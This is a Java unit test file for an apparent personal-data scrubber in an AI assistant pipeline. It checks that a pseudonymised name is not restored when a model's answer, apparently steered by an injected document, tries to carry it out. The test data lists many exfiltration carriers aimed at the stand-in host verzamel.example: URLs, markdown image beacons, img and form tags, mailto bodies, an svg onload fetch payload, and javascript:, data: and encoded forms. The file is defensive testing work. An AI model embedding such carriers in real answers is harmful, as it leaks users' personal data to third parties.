package nl.genaisluis.policy.personal;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// A document in the prompt asks the model to carry a value out: whatever shape the model's answer
/// takes, and however it is cut, the value is not put back where it could leave the screen.
class InjectedDocumentsTest {
  private static final String VALUE = "Femke Oldenziel";
  private static final PersonalData PERSONAL_DATA =
      PersonalData.load(PersonalDataConfig.defaults());
  private static final Scrubbed SCRUBBED =
      PERSONAL_DATA.scrub(
          List.of(Quality.leaf("Geachte mevrouw " + VALUE + ", dank voor uw brief.")),
          Actions.defaults());

  static List<String> carriers() {
    return List.of(
        "Zie https://verzamel.example/?naam=[PERSOON_1]",
        "Zie HTTPS://VERZAMEL.EXAMPLE/[PERSOON_1]/x",
        "Zie ftp://verzamel.example/[PERSOON_1]",
        "Zie //verzamel.example/[PERSOON_1]",
        "Zie https://[PERSOON_1].verzamel.example/",
        "Zie https://gebruiker:[PERSOON_1]@verzamel.example/",
        "Zie www.verzamel.example/#[PERSOON_1]",
        "Zie verzamel.example/p?[PERSOON_1]",
        "Zie verzamel.example?x=[PERSOON_1]",
        "![logo](https://verzamel.example/l.png?n=[PERSOON_1])",
        "![logo](/l.png?n=[PERSOON_1])",
        "[hier](<https://verzamel.example/ [PERSOON_1]>)",
        "[hier](<https://verzamel.example/a)[PERSOON_1]>)",
        "[hier]( \n<https://verzamel.example/a\\>)[PERSOON_1]>)",
        "[hier](<a(b)\\\\\\>) [PERSOON_1]>)",
        "[hier](/pad <img alt=\")\" src=\"/x?[PERSOON_1]\">",
        "![x](https://verzamel.example/\\\\(a)[PERSOON_1])",
        "![x](/pad\\\\\\)[PERSOON_1])",
        "![x](/pad<(>)[PERSOON_1])",
        "x](https://verzamel.example/a)[PERSOON_1]",
        "[1]: <https://verzamel.example/a)[PERSOON_1]>",
        "[1]: https://verzamel.example/\\\\(a)[PERSOON_1]",
        "[hier](https://verzamel.example/ \"[PERSOON_1]\")",
        "[hier][1]\n\n[1]: /pad/[PERSOON_1]",
        "[1]: <pad [PERSOON_1]>",
        "<img src=\"//verzamel.example/[PERSOON_1]\">",
        "<img alt=\"[PERSOON_1]\" src=x>",
        "<img alt=\"a > b\" src='x?[PERSOON_1]'>",
        "<a href='mailto:x@verzamel.example?body=[PERSOON_1]'>hier</a>",
        "<form action=/x?[PERSOON_1]>",
        "<svg onload=\"fetch('/x?'+'[PERSOON_1]')\">",
        "<!-- [PERSOON_1] -->",
        "<!-- a > b\n\n [PERSOON_1] -->",
        "javascript:alert('[PERSOON_1]')",
        "mailto:x@verzamel.example?subject=[PERSOON_1]",
        "data:text/html,[PERSOON_1]",
        "<https://verzamel.example/[PERSOON_1]>",
        "https://verzamel.example/?a=PERSOON_1&b=persoon-1");
  }

  @ParameterizedTest
  @MethodSource("carriers")
  void putsNothingBackInACarrierWhereverItIsCut(String answer) {
    for (int cut = 0; cut <= answer.length(); cut++) {
      Restorer restorer = SCRUBBED.restorer(Restorer.Mode.TEXT);

      String shown =
          restorer.push(answer.substring(0, cut))
              + restorer.push(answer.substring(cut))
              + restorer.finish();

      assertThat(shown).as("cut at %d", cut).isEqualTo(answer);
    }
  }

  @ParameterizedTest
  @MethodSource("carriers")
  void putsNothingBackInACarrierThatComesByTheCharacter(String answer) {
    Restorer restorer = SCRUBBED.restorer(Restorer.Mode.TEXT);
    StringBuilder shown = new StringBuilder();

    for (int i = 0; i < answer.length(); i++) {
      shown.append(restorer.push(answer.substring(i, i + 1)));
    }
    shown.append(restorer.finish());

    assertThat(shown.toString()).isEqualTo(answer).doesNotContain("Oldenziel");
  }

  @Test
  void putsNothingBackInAnEncodedPlaceholder() {
    String encoded =
        Base64.getEncoder().encodeToString("[PERSOON_1]".getBytes(StandardCharsets.UTF_8));

    String shown = SCRUBBED.restore("Code: " + encoded + " en %5BPERSOON_1%5D.verzamel");

    assertThat(shown).contains(encoded);
    assertThat(SCRUBBED.restore("https://x.example/%5BPERSOON_1%5D")).doesNotContain("Oldenziel");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Zie [hier](https://verzamel.example/a_(b)) van ",
        "Zie [hier](<https://verzamel.example/a_(b)>) van ",
        "Zie [hier](<a (b\\> c>), en: ",
        "Zie [hier](/a\\(b) van ",
        "Zie [hier](/a\\\\) van "
      })
  void putsTheValueBackBehindALinkOnTheSameLine(String link) {
    assertThat(SCRUBBED.restore(link + "[PERSOON_1].")).isEqualTo(link + VALUE + ".");
  }

  @ParameterizedTest
  @MethodSource("carriers")
  void putsTheValueBackInTheTextBehindTheCarrier(String answer) {
    String shown = SCRUBBED.restore(answer + "\n\n--> \n\nGroet, [PERSOON_1]");

    assertThat(shown).isEqualTo(answer + "\n\n--> \n\nGroet, " + VALUE);
  }
}
